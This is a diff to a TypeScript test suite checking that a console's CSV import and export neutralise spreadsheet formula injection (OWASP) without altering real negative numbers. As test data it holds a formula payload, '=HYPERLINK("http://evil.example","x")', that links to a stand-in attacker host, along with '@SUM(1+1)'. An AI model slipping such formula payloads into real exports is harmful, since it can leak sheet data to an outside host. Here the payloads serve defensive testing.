@@ -1,7 +1,7 @@
-import Papa from 'papaparse';
+import type { ResourceDef } from '../../src/console/types';
 import { csvCell } from '../../mocks/crud/csv';
 import { db } from '../../mocks/db';
-import { ADMIN, call, download, Multipart, pinClock, signIn } from './helpers';
+import { ADMIN, call, download, Multipart, pinClock, signIn, exportedRows } from './helpers';
 import { resourceByKey } from '../../src/resources';
 
 const riskAlert = resourceByKey('riskAlert')!;
@@ -11,15 +11,11 @@ const blacklist = resourceByKey('blacklist')!;
 /** A cell a spreadsheet runs: a link that sends the reader (and the sheet's data) elsewhere. */
 const FORMULA = '=HYPERLINK("http://evil.example","x")';
 
-/** An export's rows as records by header, byte-order mark removed. */
-async function exported(path: string, token: string, query: Record<string, string>) {
-  const csv = await download(path, { token, query });
+/** An export's rows as records by field (its headers are the fields' labels), byte-order mark removed. */
+async function exported(def: ResourceDef, token: string, query: Record<string, string>) {
+  const csv = await download(`${def.api}/export`, { token, query });
   expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-  const parsed = Papa.parse<Record<string, string>>(csv.text.replace(/^\uFEFF/, ''), {
-    header: true,
-    skipEmptyLines: true,
-  });
-  return parsed.data;
+  return exportedRows(def, csv.text);
 }
 
 describe('CSV formula injection (OWASP): imported as data, exported neutralised', () => {
@@ -47,7 +43,7 @@ describe('CSV formula injection (OWASP): imported as data, exported neutralised'
       ['-2+3 Trading', 'Chargeback abuse'],
     ]);
 
-    const rows = await exported(`${blacklist.api}/export`, token, { dimension: '3' });
+    const rows = await exported(blacklist, token, { dimension: '3' });
     const byId = new Map(rows.map((r) => [r.entry_id, r]));
     const [formula, plain, minus] = imported.map((e) => byId.get(e.entry_id)!);
     expect(formula).toMatchObject({ value: `'${FORMULA}`, reason: "'@SUM(1+1)" });
@@ -62,11 +58,11 @@ describe('CSV formula injection (OWASP): imported as data, exported neutralised'
   it('leaves numbers alone: a negative amount and a negative percentage stay numbers', async () => {
     const reversal = db.order[0];
     reversal.amount = '-12.50';
-    const [orderRow] = await exported(`${order.api}/export`, token, { order_no: reversal.order_no });
+    const [orderRow] = await exported(order, token, { order_no: reversal.order_no });
     expect(orderRow).toMatchObject({ order_no: reversal.order_no, amount: '-12.50' });
 
     const falling = db.riskAlert.find((a) => a.metric_value.startsWith('-'))!;
-    const [alertRow] = await exported(`${riskAlert.api}/export`, token, { alert_id: falling.alert_id });
+    const [alertRow] = await exported(riskAlert, token, { alert_id: falling.alert_id });
     expect(alertRow).toMatchObject({
       alert_id: falling.alert_id,
       metric_value: falling.metric_value,
